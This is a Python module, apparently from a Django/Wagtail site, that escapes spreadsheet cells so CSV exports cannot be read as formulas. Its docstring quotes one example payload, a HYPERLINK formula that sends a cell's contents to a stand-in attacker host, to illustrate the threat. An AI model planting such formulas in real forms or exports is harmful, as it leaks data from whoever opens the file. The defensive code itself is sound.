"""Spreadsheet cells that cannot be read as formulas.

A value such as ``=HYPERLINK("https://evil.example/?"&A1, "Click")`` typed into a public form, a
page title or a campaign name becomes a live formula when a manager opens an export in Excel or
LibreOffice. OWASP's rule: a cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return is prefixed with a single quote, so it is shown as text. Plain numbers (``-12.5``) are left
alone. https://owasp.org/www-community/attacks/CSV_Injection

``neutralise_cell`` is for code that writes spreadsheets; ``neutralise_csv_stream`` lets the
middleware apply the same rule to every CSV the site sends, including Wagtail's own report exports.
"""

import codecs
import csv
import io
import re
from collections.abc import Iterable, Iterator

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"[+-]?(\d+([.,]\d+)*|\.\d+)([eE][+-]?\d+)?")
LINE_END = re.compile(r"(?<=\n)|(?<=\r)(?!\n)")


def neutralise_cell(value):
    """``value``, with a leading ``'`` if a spreadsheet would otherwise take it for a formula."""
    if not isinstance(value, str) or not value.startswith(FORMULA_STARTS):
        return value
    if PLAIN_NUMBER.fullmatch(value):
        return value
    return "'" + value


def _lines(chunks: Iterable[bytes | str], encoding: str) -> Iterator[str]:
    """Whole lines, each with its ending (``\\n``, ``\\r\\n`` or ``\\r``), from chunks split anywhere.

    Only those three end a line, as in a file opened with ``newline=""``: other characters that
    ``str.splitlines`` treats as breaks can sit inside a cell.
    """
    decoder = codecs.getincrementaldecoder(encoding)(errors="replace")
    pending = ""
    for chunk in chunks:
        pending += decoder.decode(chunk) if isinstance(chunk, bytes) else chunk
        lines = LINE_END.split(pending)
        pending = lines.pop()
        if not pending and lines and lines[-1].endswith("\r"):
            # A "\r" at the end of a chunk may be the first half of "\r\n".
            pending = lines.pop()
        yield from lines
    pending += decoder.decode(b"", final=True)
    if pending:
        yield pending


def neutralise_csv_stream(chunks: Iterable[bytes | str], *, encoding: str = "utf-8") -> Iterator[bytes]:
    """The same CSV, row by row, with every cell passed through ``neutralise_cell``.

    Rows are read with Python's ``csv`` module, so quoted cells holding commas and line breaks
    stay whole; they are written back in the same (Excel) dialect Django and Wagtail use.
    """
    out = io.StringIO()
    writer = csv.writer(out)
    for row in csv.reader(_lines(chunks, encoding)):
        writer.writerow([neutralise_cell(cell) for cell in row])
        yield out.getvalue().encode(encoding)
        out.seek(0)
        out.truncate()
